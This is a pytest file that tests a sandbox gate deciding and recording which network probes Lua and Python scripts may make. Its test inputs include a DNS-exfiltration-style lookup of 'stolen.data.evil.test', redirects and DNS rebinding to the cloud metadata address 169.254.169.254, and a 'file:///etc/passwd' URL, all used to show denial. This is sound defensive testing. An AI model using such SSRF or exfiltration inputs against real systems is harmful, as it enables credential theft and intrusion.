"""Probes as scripts make them: through the sandbox and the gate, with what is decided and recorded."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest
from netlab import LOOPBACK, Web, answer, host, saying, serving
from running import Kept

from agent.permission import grant_layer
from policies.decide import Effective, Layer, decide_effective
from policies.load import builtin
from policies.needs import needs_layer
from protocol.manifest import parse
from protocol.tiers import Tier
from sandbox.budget import Budget
from sandbox.gate import Gate
from sandbox.launch import Outcome, Program, Sandbox
from sandbox.parties import Session
from stdlib.catalogue import load
from stdlib.host import Host, RunContext

HEAD = "name: a/b\nversion: 1.0.0\nlanguage: lua\nmain: main.lua\ntier: inspect\n"
LANGUAGES = ("lua", "python")


@dataclass
class Probing:
    """One session at tier inspect: what its manifest declares, and what an approval grants."""

    sandbox: Sandbox
    declared: tuple[str, ...] = (LOOPBACK,)
    granted: tuple[str, ...] = (LOOPBACK,)
    system: Host = field(default_factory=Host)
    kept: Kept = field(default_factory=Kept)

    async def run(self, language: str, source: str, **parameters: Any) -> Outcome:
        policy, context = builtin(Tier.INSPECT), RunContext(parameters)
        needs = needs_layer(parse(HEAD + f"needs: [{{call: 'net.*', targets: {list(self.declared)!r}}}]\n"))
        grant = grant_layer({"allow": [{"call": "net.*", "targets": list(self.granted)}]} if self.granted else {})
        layers = [Layer(policy.name, policy.rules, policy.limits), needs, grant]
        allowed = Effective(tuple(layer for layer in layers if layer is not None))
        gate = Gate(
            load(), lambda call, facts: decide_effective(allowed, call, facts), self.kept,
            Session("s1", "r1", "tester"), Budget(policy.limits), self.system, context, on_close=context.end,
        )  # fmt: skip
        main = {"lua": "main.lua", "python": "main.py"}[language]
        program = Program(language, main, {main: source.encode()}, parameters)
        return await self.sandbox.run(program, gate, policy.limits)

    @property
    def calls(self) -> list[tuple[str, str, str]]:
        """What is on the record of calls: name, verdict, outcome."""
        return [(r["call"], r["verdict"], r["outcome"]) for r in self.kept.records if r["kind"] == "call"]


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("lua", 'local p = param("port")\nreturn net.tcp_check("127.0.0.1", p, {banner = true, timeout = 5}).banner'),
        ("python", 'result = net.tcp_check("127.0.0.1", param("port"), banner=True, timeout=5)["banner"]'),
    ],
)
async def test_a_script_probes_what_it_declared(sandbox: Sandbox, language: str, source: str) -> None:
    probing = Probing(sandbox)
    async with serving(saying(b"hello\r\n")) as port:
        outcome = await probing.run(language, source, port=port)
    assert (outcome.status, outcome.result) == ("ok", "hello"), outcome.reason
    assert ("net.tcp_check", "allow", "ok") in probing.calls
    assert next(r["rule"] for r in probing.kept.records if r["call"] == "net.tcp_check").startswith("inspect.yaml:")


async def test_what_is_not_declared_and_granted_is_denied(sandbox: Sandbox) -> None:
    for declared, granted, rule in (
        ((LOOPBACK,), (), "guarded targets: loopback"),
        ((LOOPBACK,), ("*",), "the approval: no rule"),
        (("*",), (LOOPBACK,), "the manifest's needs: no rule"),
        (("192.0.2.1",), (LOOPBACK,), "the manifest's needs: no rule"),
    ):
        probing = Probing(sandbox, declared, granted)
        outcome = await probing.run("lua", 'return net.tcp_check("127.0.0.1", 1)')
        assert outcome.status == "denied"
        assert probing.calls == [("net.tcp_check", "deny", "denied")]
        assert probing.kept.records[0]["rule"] == rule


async def test_rebinding_is_on_the_record_as_denied(sandbox: Sandbox) -> None:
    """The name was allowed; where it led was not, and the record names the rule that decided on that."""
    for address in ("127.0.0.1", "169.254.169.254", "::ffff:127.0.0.1", "64:ff9b::a9fe:a9fe"):
        probing = Probing(sandbox, ("web.test",), ("*",), host([address]))
        outcome = await probing.run("lua", 'return net.tcp_check("web.test", 80)')
        assert outcome.status == "denied"
        assert probing.calls == [("net.tcp_check", "deny", "denied")]
        assert probing.kept.records[0]["rule"] == "inspect: no rule"
        assert address.removeprefix("::ffff:") in (outcome.reason or "")


async def test_a_denied_name_is_no_lookup_but_a_record(sandbox: Sandbox) -> None:
    def getaddrinfo(*_: object) -> list[object]:
        raise AssertionError("looked up")

    probing = Probing(sandbox, ("web.test",), ("*",), Host(getaddrinfo=getaddrinfo))
    outcome = await probing.run("python", 'net.resolve("stolen.data.evil.test")')
    assert outcome.status == "denied"
    assert probing.calls == [("net.resolve", "deny", "denied")]


HTTP = {
    "lua": """
local found = net.http("http://127.0.0.1:" .. param("port") .. "/a", {headers = {["X-A"] = "b"}, match = {"ell"}})
return {found.code, found.body, found.matches.ell, found.redirects}""",
    "python": """
found = net.http("http://127.0.0.1:%d/a" % param("port"), headers={"X-A": "b"}, match=["ell"])
result = [found["code"], found["body"], found["matches"]["ell"], found["redirects"]]""",
}


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_script_asks_a_web_server(sandbox: Sandbox, language: str) -> None:
    web = Web({"/a": answer(b"", "302 Found", "Location: /b"), "/b": answer(b"hello")})
    probing = Probing(sandbox)
    async with serving(web) as port:
        outcome = await probing.run(language, HTTP[language], port=port)
    assert (outcome.status, outcome.result) == ("ok", [200, "hello", True, 1]), outcome.reason
    assert all(b"X-A: b\r\n" in request for request in web.requests)
    assert [record["kind"] for record in probing.kept.records if record["call"] == "net.http"] == ["intent", "call"]


async def test_other_methods_are_for_operate(sandbox: Sandbox) -> None:
    web = Web({"/": answer(b"changed")})
    probing = Probing(sandbox)
    async with serving(web) as port:
        source = 'return net.http("http://127.0.0.1:" .. param("port") .. "/", {method = "POST", body = "x"})'
        outcome = await probing.run("lua", source, port=port)
    assert (outcome.status, web.requests) == ("denied", [])
    assert probing.kept.records[0]["rule"] == "inspect: no rule"


async def test_a_denied_redirect_is_on_the_record(sandbox: Sandbox) -> None:
    web = Web({"/": answer(b"", "302 Found", "Location: http://169.254.169.254/latest/meta-data/")})
    probing = Probing(sandbox)
    async with serving(web) as port:
        outcome = await probing.run("lua", 'return net.http("http://127.0.0.1:" .. param("port") .. "/")', port=port)
    assert outcome.status == "denied"
    assert "169.254.169.254" in (outcome.reason or "")
    assert probing.calls == [("net.http", "deny", "denied")]


WRONG = [
    ('net.tcp_check("127.0.0.1", 0)', "port"), ('net.tcp_check("127.0.0.1", 65536)', "port"),
    ('net.tcp_check("127.0.0.1", 1.5)', "port"), ('net.tcp_check("127.1", 1)', "host"),
    ('net.tcp_check("b\\u{fc}cher.test", 1)', "host"), ('net.ping("127.0.0.1", {count = 16})', "count"),
    ('net.ping("127.0.0.1", {count = 0})', "count"), ('net.ping("127.0.0.1", {interval = 0/0})', "finite"),
    ('net.ping("a\\0b")', "host"), ('net.traceroute("127.0.0.1", {max = 65})', "max"),
    ('net.http("http://127.0.0.1:0/")', "url"), ('net.http("http://127.0.0.1/", {timeout = 1/0})', "finite"),
    ('net.http("http://127.0.0.1/", {headers = {Host = "x"}})', "headers"),
    ('net.http("http://127.0.0.1/", {method = "TRACE"})', "method"), ('net.http("file:///etc/passwd")', "url"),
    ('net.http("http://127.0.0.1/", {max_body = -1})', "max_body"), ('net.resolve("x", {type = "AXFR"})', "type"),
    ('net.tls_peer("127.0.0.1", 443, {sni = "a b"})', "sni"), ("net.ping()", "host"),
    ('net.ping("127.0.0.1", {no_such = 1})', "no_such"),
]  # fmt: skip


async def test_wrong_arguments_are_named(sandbox: Sandbox) -> None:
    """In one run, as each of them is caught."""
    attempts = "\n".join(f"try(function() return {call} end)" for call, _ in WRONG)
    source = f"""
local told = {{}}
local function try(work)
    local ok, failure = pcall(work)
    told[#told + 1] = {{ok, failure.code, failure.message}}
end
{attempts}
return told"""
    outcome = await Probing(sandbox).run("lua", source)
    assert len(outcome.result) == len(WRONG), outcome.reason
    for (call, parameter), (ok, code, message) in zip(WRONG, outcome.result, strict=True):
        assert (ok, code) == (False, "invalid_argument"), call
        assert parameter in message, call
